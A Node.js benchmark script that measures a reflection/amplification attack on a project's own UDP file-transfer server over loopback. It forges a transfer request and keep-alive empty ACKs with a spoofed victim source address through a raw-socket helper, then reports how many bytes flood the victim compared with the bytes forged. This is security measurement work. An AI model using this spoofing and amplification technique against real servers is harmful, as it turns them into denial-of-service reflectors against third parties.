#!/usr/bin/env node
// Reflection/amplification through the transfer server, measured (root: raw socket).
// An attacker holding a token from his own chat session forges REQUESTs with a victim's
// source address, then an ACK that acknowledges nothing every second (to keep a flow
// alive), for --seconds. Counts the bytes that reach a socket bound at the victim's
// address (127.0.0.2) and divides by the bytes forged.
// Usage (root, python3): node bench/transfer/amplification.mjs [--seconds 20] [--dist packages/udp-transfer/dist]
// Prints one JSON line: {"seconds","forgedBytes","victimBytes","factor","firstSecondBytes","packets":{type:count}}.
import { execFileSync } from 'node:child_process';
import { createHash, randomBytes } from 'node:crypto';
import dgram from 'node:dgram';
import { mkdtempSync, rmSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join, resolve } from 'node:path';
import { parseArgs } from 'node:util';
import { pathToFileURL } from 'node:url';
import { encodePacket, peekPacketType } from '../../packages/protocol/dist/index.js';

const here = new URL('.', import.meta.url).pathname;
const { values } = parseArgs({
  options: { seconds: { type: 'string', default: '20' }, dist: { type: 'string', default: join(here, '../../packages/udp-transfer/dist') } },
});
const { TransferServer } = await import(pathToFileURL(join(resolve(values.dist), 'index.js')).href);
const forgeScript = join(here, '../../packages/udp-transfer/test/helpers/forge-udp.py');

const dir = mkdtempSync(join(tmpdir(), 'parley-amp-'));
const data = randomBytes(50 * 1024 * 1024);
const path = join(dir, 'loot.bin');
writeFileSync(path, data);
const sha256 = createHash('sha256').update(data).digest('hex');
const server = await TransferServer.listen({ host: '127.0.0.1', port: 0, tokenTtlMs: 600_000 });
const { id, token } = server.offer({ owner: 'mallory', path, name: 'loot.bin', size: data.length, sha256 });

const victim = dgram.createSocket('udp4');
await new Promise((r) => victim.bind(0, '127.0.0.2', r));
const vport = victim.address().port;
const started = performance.now();
let victimBytes = 0;
let firstSecondBytes = 0;
const packets = {};
victim.on('message', (m) => {
  victimBytes += m.length;
  if (performance.now() - started < 1000) firstSecondBytes += m.length;
  const t = peekPacketType(m) ?? 'other';
  packets[t] = (packets[t] ?? 0) + 1;
});

let forgedBytes = 0;
const forge = (payloads) => {
  const input = `${payloads.map((p) => p.toString('hex')).join('\n')}\n`;
  forgedBytes += Number(
    execFileSync('python3', [forgeScript, '127.0.0.2', String(vport), '127.0.0.1', String(server.port)], { input })
      .toString()
      .trim(),
  );
};
const request = encodePacket({ type: 'request', transferId: id, token: Buffer.from(token, 'hex'), resumeFrom: 0, payloadSize: 1452, window: 4096 });
const emptyAck = encodePacket({ type: 'ack', transferId: id, largest: 0, ackDelayUs: 0, cumulative: 0, window: 4096, ranges: [] });
forge([request]);
const seconds = Number(values.seconds);
for (let s = 1; s < seconds; s++) {
  await new Promise((r) => setTimeout(r, 1000));
  forge([emptyAck]);
}
await new Promise((r) => setTimeout(r, 1000));
victim.close();
await server.close(0);
rmSync(dir, { recursive: true, force: true });
console.log(JSON.stringify({ seconds, forgedBytes, victimBytes, factor: Math.round((victimBytes / forgedBytes) * 100) / 100, firstSecondBytes, packets }));
